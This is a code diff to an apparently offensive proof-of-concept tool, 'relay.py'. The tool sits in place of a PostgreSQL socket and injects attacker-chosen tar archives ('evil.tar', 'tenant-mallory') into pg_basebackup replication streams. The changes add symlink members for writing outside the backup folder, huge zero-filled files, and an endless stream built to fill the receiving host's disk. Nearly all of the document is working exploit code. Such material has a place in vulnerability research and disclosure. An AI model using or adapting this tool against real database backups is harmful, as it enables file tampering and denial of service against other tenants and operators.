@@ -1,7 +1,9 @@
 """A tenant's own program in the place of its server's socket: hands all on to the server, and adds an archive of its
-choosing to each base backup. https://www.postgresql.org/docs/18/protocol-replication.html
+choosing to each base backup, before or after its own. https://www.postgresql.org/docs/18/protocol-replication.html
 
-relay.py PLAN: a JSON file, {"location": "/where", "files": {"a/b": "content"}}; folders are made on the way.
+relay.py PLAN: a JSON file, {"location": "/where", "files": {"a/b": "content"}}; folders are made on the way. A
+location "" is the data folder itself. More that a plan may have: "links": {"a": "target"}, "zeros": {"name": bytes},
+"endless": true for files without end, "after": true.
 """
 
 import io
@@ -12,6 +14,7 @@ import struct
 import sys
 import tarfile
 import threading
+import time
 
 LISTEN = "/var/lib/postgresql/.sockets/.s.PGSQL.5432"
 SERVER = "/var/lib/postgresql/.real/.s.PGSQL.5432"
@@ -22,6 +25,10 @@ def archive(plan):
     # pg_basebackup makes no folder that is there.
     made = {"tenant-mallory"}
     with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        for path, target in plan.get("links", {}).items():
+            member = tarfile.TarInfo(path)
+            member.type, member.linkname = tarfile.SYMTYPE, target
+            tar.addfile(member)
         for path, content in plan["files"].items():
             parts = path.split("/")[:-1]
             for depth in range(1, len(parts) + 1):
@@ -41,15 +48,40 @@ def copy_data(payload):
     return b"d" + struct.pack("!I", len(payload) + 4) + payload
 
 
-def injected():
+def zeros(name, size):
+    member = tarfile.TarInfo(name)
+    member.size, member.mode = size, 0o600
+    yield member.tobuf(tarfile.USTAR_FORMAT)
+    block = bytes(1 << 20)
+    for _ in range(size >> 20):
+        yield block
+
+
+def read_plan():
     with open(sys.argv[1]) as file:
-        plan = json.load(file)
+        return json.load(file)
+
+
+def injected(plan):
     name = plan.get("archive", "evil.tar").encode()
     content = archive(plan)
+    large = plan.get("zeros", {})
+    if large or plan.get("endless"):
+        content = content.rstrip(b"\0")
+        content += bytes(-len(content) % 512)
     chunks = [content[at : at + 8192] for at in range(0, len(content), 8192)]
     yield copy_data(b"n" + name + b"\0" + plan["location"].encode() + b"\0")
     for chunk in chunks:
         yield copy_data(b"d" + chunk)
+    for name, size in large.items():
+        for block in zeros(name, size):
+            yield copy_data(b"d" + block)
+    if large:
+        yield copy_data(b"d" + bytes(1024))
+    while plan.get("endless"):
+        for block in zeros("endless", 64 << 20):
+            time.sleep(0.005)
+            yield copy_data(b"d" + block)
 
 
 def read_exactly(connection, count):
@@ -67,9 +99,11 @@ def answers(server, client):
         while True:
             head = read_exactly(server, 5)
             body = read_exactly(server, struct.unpack("!I", head[1:])[0] - 4)
-            if head[:1] == b"d" and body.startswith(b"nbase.tar\0"):
-                for message in injected():
-                    client.sendall(message)
+            if head[:1] == b"d" and (body.startswith(b"nbase.tar\0") or body == b"m"):
+                plan = read_plan()
+                if plan.get("after", False) == (body == b"m"):
+                    for message in injected(plan):
+                        client.sendall(message)
             client.sendall(head + body)
     except (EOFError, OSError):
         pass
